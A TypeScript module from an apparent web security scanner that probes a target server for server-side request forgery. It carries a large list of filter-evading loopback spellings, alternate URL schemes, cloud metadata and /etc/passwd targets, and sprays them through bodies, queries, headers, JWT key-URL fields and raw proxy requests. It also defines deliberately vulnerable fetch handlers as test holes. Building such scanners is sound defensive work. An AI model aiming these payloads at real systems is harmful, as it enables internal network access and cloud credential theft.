// Addresses of our own listener in every place that takes text: whoever fetches one is found by the visit.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { reply, type Family } from '../family.ts';
import { bodyWith, pathWith, queryWith, textPlaces } from '../routes.ts';
import { sendRaw, type Shot } from '../shot.ts';
import type { Scene } from '../scene.ts';

const ID = '7d444840-9dc0-41d1-b245-5ffdce74fad2';
/** Long enough for a job that fetches later. */
const VISIT_MS = 3_000;

/** Loopback in the spellings that filters miss, and schemes that clients follow. */
function addresses(port: number): string[] {
  const hosts = [
    '127.0.0.1', 'localhost', 'localhost.', '127.1', '127.0.1', '0', '0.0.0.0', '2130706433', '0x7f000001', '0x7f.1',
    '0177.0.0.1', '017700000001', '[::1]', '[::]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[0:0:0:0:0:ffff:127.0.0.1]',
    '[64:ff9b::7f00:1]', '[2002:7f00:1::]', '127.0.0.1.', '127.000.000.001', '①②⑦.⓪.⓪.①', 'attack.test@127.0.0.1',
    '127.0.0.1#attack.test', 'localtest.me', '127.0.0.1%00.attack.test', 'LOCALHOST', 'lo%63alhost', '127.0.0.2',
  ]; // prettier-ignore
  const urls = hosts.map((host) => `http://${host}:${port}/visit`);
  const others = ['gopher', 'ftp', 'dict', 'ldap', 'ws', 'HTTP', 'http:\\\\', 'jar:http', 'feed'].map(
    (scheme) => `${scheme}://127.0.0.1:${port}/visit`,
  );
  const metadata = [
    'http://169.254.169.254/latest/meta-data/',
    'http://[fd00:ec2::254]/latest/',
    'http://metadata.google.internal/',
    'file:///etc/passwd',
  ];
  return [...urls, ...others, ...metadata, `//127.0.0.1:${port}/visit`];
}

const CARRIERS = [
  'referer',
  'x-forwarded-host',
  'x-forwarded-for',
  'origin',
  'x-original-url',
  'forwarded',
  'from',
  'true-client-ip',
  'x-wap-profile',
  'destination',
  'x-callback-url',
  'link',
];

export const outbound: Family = {
  name: 'outbound',
  about: 'addresses of a listener of ours in every text, header and token (SSRF); visits are counted',
  holes: [
    {
      name: 'an address in a body is fetched',
      async open({ body }, { forward }) {
        const url = /http:\/\/127\.0\.0\.1:\d+\/visit/.exec(body.toString())?.[0];
        if (url !== undefined) await fetch(url).catch(() => {});
        return forward();
      },
    },
    {
      name: 'the page that a visitor came from is looked at',
      async open({ headers }, { forward }) {
        const url = headers['referer'];
        if (url?.startsWith('http://127.0.0.1') === true) await fetch(url).catch(() => {});
        return forward();
      },
    },
    {
      name: 'what stands at a metadata address is shown',
      open: ({ url, body }, { forward }) =>
        /169\.254\.169\.254/.test(url + body.toString()) ? reply(200, { answer: 'ami-id instance-id' }) : forward(),
    },
  ],
  async run(scene) {
    const visits: string[] = [];
    const listener = createServer((incoming, outgoing) => {
      visits.push(`${incoming.method} ${incoming.url} ${incoming.headers['user-agent'] ?? ''}`);
      outgoing.end('visited');
    });
    await new Promise<void>((resolve) => listener.listen(0, '0.0.0.0', resolve));
    const { port } = listener.address() as AddressInfo;
    try {
      await scene.volley(
        shots(scene, port),
        ({ text }) => (/ami-id|instance-id/.test(text) ? 'what stands at the address was shown' : undefined),
        { mayHangUp: true },
      );
      await proxied(scene, port);
      await sleep(scene.stage.most < 100 ? 500 : VISIT_MS);
    } finally {
      listener.close();
      listener.closeAllConnections();
    }
    scene.tally.more['visits'] = visits.length;
    scene.verdict(visits.length > 0 ? `the server called on us: ${visits[0]}` : undefined, 'the listener');
  },
};

function shots(scene: Scene, port: number): Shot[] {
  const { routes } = scene.stage;
  const all = addresses(port);
  const json = { ...scene.ownKey, 'content-type': 'application/json' };
  const inBodies = routes
    .filter(({ body, path }) => body !== undefined && !path.endsWith('/login'))
    .flatMap((route) =>
      textPlaces(route.body ?? {}).flatMap((place) =>
        all.map((url) => ({
          method: route.method,
          path: pathWith(route, ID),
          headers: json,
          body: JSON.stringify(bodyWith(route.body ?? {}, place, url)),
        })),
      ),
    );
  const inQueries = routes.flatMap((route) =>
    route.queryParameters.flatMap(({ name }) =>
      all.map((url) => ({
        method: route.method,
        path: pathWith(route, ID) + queryWith(route, { [name]: url }),
        headers: scene.ownKey,
      })),
    ),
  );
  const inHeaders = ['/api/settings', '/docs', '/openapi.json', '/api/traces'].flatMap((path) =>
    CARRIERS.flatMap((name) =>
      all.map((url) => ({
        method: 'GET',
        path,
        headers: { ...scene.ownKey, [name]: url.replaceAll(/[^\x20-\x7e]/g, '') },
      })),
    ),
  );
  const inTokens = all.flatMap((url) =>
    ['jku', 'x5u', 'kid', 'iss'].map((member) => {
      const head = Buffer.from(JSON.stringify({ alg: 'RS256', typ: 'at+jwt', kid: 'x', [member]: url })).toString(
        'base64url',
      );
      return { method: 'GET', path: '/api/settings', headers: { authorization: `Bearer ${head}.e30.AAAA` } };
    }),
  );
  return [...inBodies, ...inQueries, ...inHeaders, ...inTokens];
}

/** Asked as a proxy would be: an absolute target, CONNECT, and a host that is not ours. */
async function proxied(scene: Scene, port: number): Promise<void> {
  const own = Number(new URL(scene.target.http).port);
  const lines = addresses(port)
    .filter((url) => /^[\x21-\x7e]+$/.test(url))
    .flatMap((url) => [
      `GET ${url} HTTP/1.1\r\nHost: 127.0.0.1:${port}`,
      `CONNECT 127.0.0.1:${port} HTTP/1.1\r\nHost: 127.0.0.1:${port}`,
      `GET ${url} HTTP/1.1\r\nHost: localhost:${own}`,
    ]);
  for (const line of scene.some([...new Set(lines)])) {
    const { text, ms } = await sendRaw(own, [`${line}\r\nConnection: close\r\n\r\n`], { limitMs: 700 });
    scene.tally.count([line], ms);
    scene.verdict(
      text.includes('visited') || /^HTTP\/1\.1 200 .*established/i.test(text)
        ? 'the server is a proxy for everybody'
        : undefined,
      line,
    );
  }
}
